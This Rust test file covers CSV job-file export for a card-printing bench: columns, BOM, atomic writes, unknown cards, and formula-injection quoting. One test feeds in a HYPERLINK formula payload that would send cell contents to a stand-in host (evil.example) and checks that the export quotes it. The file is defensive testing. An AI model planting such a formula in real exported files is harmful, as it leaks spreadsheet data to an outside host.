//! Job files: columns, BOM, atomic write into the machine's folder.

mod common;

use cardbench_devices::config::ExportConfig;
use cardbench_devices::export::export_job;
use common::bench;

#[test]
fn a_job_file_has_the_configured_columns_and_is_written_whole() {
    let b = bench();
    b.cards(&["C-1".to_owned(), "C-2".to_owned()], &["MIFARE_UID", "ATR"]);
    let folder = b.dir.path().join("jobs");
    let config = ExportConfig { bom: true, ..Default::default() };
    let ids = vec!["C-1".to_owned(), "C-2".to_owned()];
    let job = b.wf.store().read(|c| export_job(c, &ids, &config, &folder, "S 1/Å")).expect("export");
    assert_eq!(job.cards, 2);
    let name = job.path.file_name().and_then(|n| n.to_str()).expect("name");
    assert!(name.starts_with("job-S_1__-") && name.ends_with(".csv"), "{name}");
    let bytes = std::fs::read(&job.path).expect("read");
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM asked for");
    let text = std::str::from_utf8(&bytes[3..]).expect("utf-8");
    assert_eq!(text.lines().next(), Some("cardId,NAME,EMPLOYEE_NO,expectedFields"));
    assert!(text.contains("C-1,Åsa Öberg,4711,MIFARE_UID|ATR\r\n"), "{text}");
    let leftovers: Vec<_> = std::fs::read_dir(&folder).expect("dir").filter_map(Result::ok).map(|e| e.file_name()).collect();
    assert_eq!(leftovers.len(), 1, "no temporary file is left: {leftovers:?}");

    let custom = ExportConfig { columns: vec!["shipmentId".into(), "cardId".into(), "element:NAME".into()], delimiter: ';', ..Default::default() };
    let job = b.wf.store().read(|c| export_job(c, &ids[..1], &custom, &folder, "x")).expect("export");
    let text = std::fs::read_to_string(&job.path).expect("read");
    assert_eq!(text, "shipmentId;cardId;NAME\r\nS-00000;C-1;Åsa Öberg\r\n");
}

#[test]
fn an_unknown_card_exports_nothing() {
    let b = bench();
    b.cards(&["C-1".to_owned()], &["MIFARE_UID"]);
    let folder = b.dir.path().join("jobs");
    let ids = vec!["C-1".to_owned(), "C-404".to_owned()];
    let err = b.wf.store().read(|c| export_job(c, &ids, &ExportConfig::default(), &folder, "x")).expect_err("unknown card");
    assert!(err.to_string().contains("C-404"), "{err}");
    assert!(!folder.exists() || std::fs::read_dir(&folder).expect("dir").next().is_none());
}

#[test]
fn card_data_that_looks_like_a_formula_is_quoted_in_the_job_file() {
    let b = bench();
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let mut body = common::request("+C-1", "S-1", &["MIFARE_UID"]);
    body["card"]["cardElements"] = serde_json::json!({"NAME": evil, "@EMPLOYEE_NO": "-4711", "CITY": "Malmö"});
    let body = serde_json::to_vec(&body).expect("json");
    let id = uuid::Uuid::new_v4().to_string();
    let envelope = cardbench_store::inbox::Envelope {
        message_id: Some(&id),
        subject: Some(cardbench_protocol::Subject::RequestSent.as_str()),
        body: &body,
        ..Default::default()
    };
    let report = b.wf.ingest(&[envelope]).expect("ingest");
    assert!(matches!(report.outcomes[0], cardbench_workflow::IngestOutcome::Accepted { .. }), "{:?}", report.outcomes);
    let folder = b.dir.path().join("jobs");
    let ids = vec!["+C-1".to_owned()];
    let job = b.wf.store().read(|c| export_job(c, &ids, &ExportConfig::default(), &folder, "x")).expect("export");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(&job.path).expect("csv");
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.expect("record").iter().map(str::to_owned).collect()).collect();
    assert_eq!(rows[0], ["cardId", "NAME", "'@EMPLOYEE_NO", "CITY", "expectedFields"]);
    assert_eq!(rows[1], ["'+C-1", &format!("'{evil}"), "'-4711", "Malmö", "MIFARE_UID"]);
    // An encoder that needs the values raw can have them.
    let raw = ExportConfig { spreadsheet_safe: false, ..Default::default() };
    let job = b.wf.store().read(|c| export_job(c, &ids, &raw, &folder, "raw")).expect("export");
    assert!(std::fs::read_to_string(&job.path).expect("read").contains("\r\n+C-1,"), "raw when asked");
}
